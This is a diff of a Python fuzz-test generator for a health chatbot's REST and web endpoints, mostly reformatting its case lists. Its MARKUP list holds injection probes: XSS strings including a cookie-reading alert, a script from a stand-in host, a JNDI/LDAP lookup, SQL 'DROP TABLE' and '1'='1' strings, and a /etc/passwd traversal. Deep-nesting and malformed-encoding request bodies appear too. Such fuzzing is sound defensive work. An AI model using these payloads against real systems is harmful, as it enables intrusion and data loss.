@@ -3,13 +3,15 @@
 Case i depends only on (seed, i), so a run of N cases is the first N of a longer run with the
 same seed, whatever the concurrency: `make test`'s 500-case slice is a prefix of `make fuzz`.
 """
+
 from __future__ import annotations
 
 import json
 import random
-from urllib.parse import urlencode
+from collections.abc import Callable
 from dataclasses import dataclass
-from typing import Any, Callable
+from typing import Any
+from urllib.parse import urlencode
 
 from bench.load import PATIENT_MESSAGES
 from isobot.security.limits import MAX_BODY_BYTES, message_too_long
@@ -18,21 +20,69 @@ MAX_SENDER_CHARS = 128  # the REST channel's limit (isobot/channels/rest.py); th
 
 # Code point ranges to draw from: every plane that has assigned characters, never a surrogate
 # (U+D800-DFFF cannot be encoded as UTF-8; lone surrogates get their own JSON-escape case).
-PLANES = [(0x20, 0x7E), (0xA0, 0x2FF), (0x370, 0x52F), (0x590, 0x6FF), (0x900, 0x97F), (0xE00, 0xE7F),
-          (0x1100, 0x11FF), (0x2000, 0x2BFF), (0x3000, 0x30FF), (0x4E00, 0x9FFF), (0xAC00, 0xD7A3),
-          (0xE000, 0xF8FF), (0xFB00, 0xFFFD), (0x10000, 0x1FFFF), (0x1F300, 0x1FAFF), (0x20000, 0x2A6DF),
-          (0x30000, 0x3134F), (0xE0000, 0xE007F), (0xF0000, 0xFFFFD), (0x100000, 0x10FFFD)]
+PLANES = [
+    (0x20, 0x7E),
+    (0xA0, 0x2FF),
+    (0x370, 0x52F),
+    (0x590, 0x6FF),
+    (0x900, 0x97F),
+    (0xE00, 0xE7F),
+    (0x1100, 0x11FF),
+    (0x2000, 0x2BFF),
+    (0x3000, 0x30FF),
+    (0x4E00, 0x9FFF),
+    (0xAC00, 0xD7A3),
+    (0xE000, 0xF8FF),
+    (0xFB00, 0xFFFD),
+    (0x10000, 0x1FFFF),
+    (0x1F300, 0x1FAFF),
+    (0x20000, 0x2A6DF),
+    (0x30000, 0x3134F),
+    (0xE0000, 0xE007F),
+    (0xF0000, 0xFFFFD),
+    (0x100000, 0x10FFFD),
+]
 ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e"]
 BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f"]
 CONTROLS = [chr(c) for c in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]]
-RTL_AND_MIXED = ["ظهري يؤلمني", "כאב גב תחתון", "آکوتان", "боль в спине", "οσφυαλγία", "腰痛", "허리 통증",
-                 "कमर दर्द", "ปวดหลัง", "аccutane", "isotretinоin", "Ꭺccutane"]  # the last three: homoglyphs
-MARKUP = ["<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
-          "<svg/onload=alert(1)>", "javascript:alert(1)", "<iframe src=javascript:alert(1)>",
-          "\"><script>alert(document.cookie)</script>", "<scr<script>ipt>alert(1)</script>",
-          "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://x.example/a}", "%s%s%s%n", "{0.__class__}",
-          "'; DROP TABLE events; --", "1' OR '1'='1", "../../../../etc/passwd", "\x1b[31mred\x1b[0m",
-          "[click](javascript:alert(1))", "<!--", "]]>", "\\u0000"]
+RTL_AND_MIXED = [
+    "ظهري يؤلمني",
+    "כאב גב תחתון",
+    "آکوتان",
+    "боль в спине",
+    "οσφυαλγία",
+    "腰痛",
+    "허리 통증",
+    "कमर दर्द",
+    "ปวดหลัง",
+    "аccutane",
+    "isotretinоin",
+    "Ꭺccutane",
+]  # the last three: homoglyphs
+MARKUP = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "javascript:alert(1)",
+    "<iframe src=javascript:alert(1)>",
+    '"><script>alert(document.cookie)</script>',
+    "<scr<script>ipt>alert(1)</script>",
+    "{{7*7}}",
+    "${7*7}",
+    "#{7*7}",
+    "${jndi:ldap://x.example/a}",
+    "%s%s%s%n",
+    "{0.__class__}",
+    "'; DROP TABLE events; --",
+    "1' OR '1'='1",
+    "../../../../etc/passwd",
+    "\x1b[31mred\x1b[0m",
+    "[click](javascript:alert(1))",
+    "<!--",
+    "]]>",
+    "\\u0000",
+]
 WHITESPACE = ["", " ", "   ", "\n", "\t", "\r\n", "\u00a0", "\u3000", "\u2028", "\u2029", " \n\t \u200b "]
 # A red flag at the very end of a huge message must still be read (see README: SafetyGate).
 RED_FLAG = "and now i cannot feel my legs"
@@ -42,11 +92,11 @@ RED_FLAG = "and now i cannot feel my legs"
 class Case:
     index: int
     category: str
-    target: str                   # "rest" (Rasa's webhook) or "web" (the web server's chat relay)
+    target: str  # "rest" (Rasa's webhook) or "web" (the web server's chat relay)
     body: bytes
-    content_type: str | None      # None: no Content-Type header at all
-    well_formed: bool             # a valid request: it must get 200 and a non-empty reply
-    over_limit: bool = False      # valid, but over the Rasa server's size limits: REST must answer 413
+    content_type: str | None  # None: no Content-Type header at all
+    well_formed: bool  # a valid request: it must get 200 and a non-empty reply
+    over_limit: bool = False  # valid, but over the Rasa server's size limits: REST must answer 413
 
 
 def _sender(rng: random.Random, index: int) -> str:
@@ -125,20 +175,22 @@ TEXT_CATEGORIES: dict[str, Callable[[random.Random], str]] = {
 # ---------------------------------------------------------------- broken request categories
 def malformed_json(rng: random.Random, sender: str) -> bytes:
     good = json.dumps({"sender": sender, "message": _question(rng)})
-    return rng.choice([
-        good[: rng.randrange(1, len(good))].encode(),             # truncated
-        good.replace("}", ",}").encode(),                         # trailing comma
-        good.replace('"', "'").encode(),                          # single quotes
-        b'{"sender": "' + sender.encode() + b'", "message": NaN}',
-        b'{"sender": "' + sender.encode() + b'", "message": Infinity}',
-        b"[" * 100_000 + b"]" * 100_000,                           # nesting deeper than any parser's stack
-        b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
-        b"\xef\xbb\xbf" + good.encode(),                          # UTF-8 byte order mark
-        b"",
-        b"null garbage",
-        good.encode() + b"\x00",
-        good.encode() * 2,
-    ])
+    return rng.choice(
+        [
+            good[: rng.randrange(1, len(good))].encode(),  # truncated
+            good.replace("}", ",}").encode(),  # trailing comma
+            good.replace('"', "'").encode(),  # single quotes
+            b'{"sender": "' + sender.encode() + b'", "message": NaN}',
+            b'{"sender": "' + sender.encode() + b'", "message": Infinity}',
+            b"[" * 100_000 + b"]" * 100_000,  # nesting deeper than any parser's stack
+            b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
+            b"\xef\xbb\xbf" + good.encode(),  # UTF-8 byte order mark
+            b"",
+            b"null garbage",
+            good.encode() + b"\x00",
+            good.encode() * 2,
+        ]
+    )
 
 
 def not_an_object(rng: random.Random, sender: str) -> bytes:
@@ -171,16 +223,18 @@ def huge_sender(rng: random.Random, sender: str) -> bytes:
 
 def non_utf8(rng: random.Random, sender: str) -> bytes:
     prefix = b'{"sender": "' + sender.encode() + b'", "message": "'
-    return rng.choice([
-        prefix + "mal de dos é fort".encode("latin-1") + b'"}',
-        prefix + b"\xff\xfe\xfd" + b'"}',
-        prefix + b"\xc0\xaf\xe0\x80\xaf" + b'"}',                 # overlong encodings
-        prefix + b"\xed\xa0\x80" + b'"}',                         # a surrogate encoded as UTF-8
-        json.dumps({"sender": sender, "message": _question(rng)}).encode("utf-16"),
-        b'{"sender": "' + sender.encode() + b'", "message": "\\ud800 lone surrogate"}',
-        b'{"sender": "\\udfff' + sender.encode() + b'", "message": "hi"}',
-        bytes(rng.randrange(256) for _ in range(rng.randint(1, 2_000))),
-    ])
+    return rng.choice(
+        [
+            prefix + "mal de dos é fort".encode("latin-1") + b'"}',
+            prefix + b"\xff\xfe\xfd" + b'"}',
+            prefix + b"\xc0\xaf\xe0\x80\xaf" + b'"}',  # overlong encodings
+            prefix + b"\xed\xa0\x80" + b'"}',  # a surrogate encoded as UTF-8
+            json.dumps({"sender": sender, "message": _question(rng)}).encode("utf-16"),
+            b'{"sender": "' + sender.encode() + b'", "message": "\\ud800 lone surrogate"}',
+            b'{"sender": "\\udfff' + sender.encode() + b'", "message": "hi"}',
+            bytes(rng.randrange(256) for _ in range(rng.randint(1, 2_000))),
+        ]
+    )
 
 
 REQUEST_CATEGORIES: dict[str, Callable[[random.Random, str], bytes]] = {
@@ -190,15 +244,34 @@ REQUEST_CATEGORIES: dict[str, Callable[[random.Random, str], bytes]] = {
     "huge_sender": huge_sender,
     "non_utf8": non_utf8,
 }
-WRONG_CONTENT_TYPES = [None, "text/plain", "application/xml", "multipart/form-data",
-                       "application/json; charset=latin-1", "application/x-www-form-urlencoded", "*/*",
-                       "application/json" + "x" * 1_000]
+WRONG_CONTENT_TYPES = [
+    None,
+    "text/plain",
+    "application/xml",
+    "multipart/form-data",
+    "application/json; charset=latin-1",
+    "application/x-www-form-urlencoded",
+    "*/*",
+    "application/json" + "x" * 1_000,
+]
 
 # Relative weights: mostly message text (the everyday attack surface), then broken requests.
-WEIGHTS = {"random_unicode": 14, "rtl_mixed_scripts": 8, "zero_width_control": 10, "huge": 3,
-           "empty_whitespace": 6, "markup_injection": 10, "normal_question": 6, "malformed_json": 8,
-           "not_an_object": 5, "wrong_types": 10, "huge_sender": 4, "non_utf8": 6, "wrong_content_type": 6,
-           "form_encoded": 4}
+WEIGHTS = {
+    "random_unicode": 14,
+    "rtl_mixed_scripts": 8,
+    "zero_width_control": 10,
+    "huge": 3,
+    "empty_whitespace": 6,
+    "markup_injection": 10,
+    "normal_question": 6,
+    "malformed_json": 8,
+    "not_an_object": 5,
+    "wrong_types": 10,
+    "huge_sender": 4,
+    "non_utf8": 6,
+    "wrong_content_type": 6,
+    "form_encoded": 4,
+}
 
 
 def case(seed: int, index: int, web_share: float = 0.0) -> Case:
